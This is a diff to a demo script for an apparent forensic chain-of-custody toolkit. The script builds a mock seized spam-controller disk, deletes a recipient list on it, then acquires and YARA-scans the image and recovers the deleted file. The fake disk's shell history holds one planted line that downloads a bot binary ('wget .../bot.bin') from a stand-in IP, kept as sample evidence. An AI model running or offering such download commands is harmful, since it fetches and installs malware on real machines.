@@ -4,7 +4,8 @@
 # Makes a small "seized controller disk" (an ext4 image built with
 # mke2fs -d from files such a server holds: a panel config, a recipient
 # list, a spam template, an access log), then opens a case, registers the
-# seized item, acquires the disk, extracts its inventory and target lists,
+# seized item, acquires the disk, extracts its inventory and target lists
+# (with the sample YARA rules in demo/rules),
 # registers the seizure paperwork, records a hand-over and verifies the case, everything signed by a sample examiner
 # key made with custody-keygen.  Everything lands in BUILD_DIR/demo/.
 set -eu
@@ -43,7 +44,11 @@ cat >"$out/disk/var/log/nginx/access.log" <<'LOG'
 198.51.100.45 - - [15/Mar/2011:23:59:07 +0000] "POST /gate.php HTTP/1.1" 200 112
 LOG
 printf 'wget http://203.0.113.17/bot.bin\n' >"$out/disk/root/.bash_history"
+# the installer the operators kept, and a target list they deleted
+(cd "$out/disk/var/www" && tar -czf panel-install.tar.gz panel)
+printf 'dave@example.com\nerin@example.org\n' >"$out/disk/var/www/old-list.txt"
 mke2fs -q -F -t ext4 -L controller -d "$out/disk" "$out/controller-disk.img" 8M
+debugfs -w -R "rm /var/www/old-list.txt" "$out/controller-disk.img" >/dev/null 2>&1
 echo "$out/controller-disk.img"
 
 say "custody-keygen: the examiner's key and certificate (a sample passphrase)"
@@ -79,12 +84,16 @@ say "custody-log add: the hand-over to the evidence room"
 custody-log add --case "$out/case" --action transferred --item E001 \
 	--from "Jane Examiner" --to "Evidence custodian" --location "Evidence room, locker 12"
 
-say "custody-extract: every file of the acquired disk, hashed and carved"
-custody-extract --case "$out/case" --acq E001-A1
-echo "emails:"
-cat "$out"/case/extractions/E001-X1/targets/emails.csv
+say "custody-extract: every file of the acquired disk, hashed, typed, scanned and carved"
+custody-extract --case "$out/case" --acq E001-A1 --rules "$top/demo/rules"
+x=$out/case/extractions/E001-X1
+echo "emails (the deleted list's too):"
+cat "$x/targets/emails.csv"
 echo "URLs:"
-cat "$out"/case/extractions/E001-X1/targets/urls.csv
+cat "$x/targets/urls.csv"
+echo "YARA hits and copies of files of interest:"
+grep '"rules"' "$x/inventory.jsonl" | sed 's/.*"path":"\([^"]*\)".*"rule":"\([^"]*\)".*/  \1: \2/'
+(cd "$x" && find objects -type f | sort | sed 's/^/  /')
 
 say "custody-log show: the timeline"
 custody-log show --case "$out/case"
@@ -111,8 +120,10 @@ Look at:
   acquisitions/E001-A1/                the acquisition: image.raw, acquisition.json, blocks.sha256,
                                        errors.map, SHA256SUMS, manifest.hashdeep, SHA256SUMS.p7s
   artifacts/E001-H1/                   the registered paperwork
-  extractions/E001-X1/                 inventory.jsonl (every file, deleted ones too, with MD5 and
-                                       SHA-256) and targets/ (emails, domains, URLs, IPs carved)
+  extractions/E001-X1/                 inventory.jsonl (every file, deleted ones too, archive members,
+                                       with MD5, SHA-256, type and YARA hits), inventory.dfxml,
+                                       targets/ (emails, domains, URLs, IPs carved, unallocated
+                                       space included) and objects/ (copies of files of interest)
 Check it without custody: docs/verifying-without-custody.md, with
   EXAMINER_CERT=$out/examiner/examiner.pem
 Try: custody-case status --case $out/case
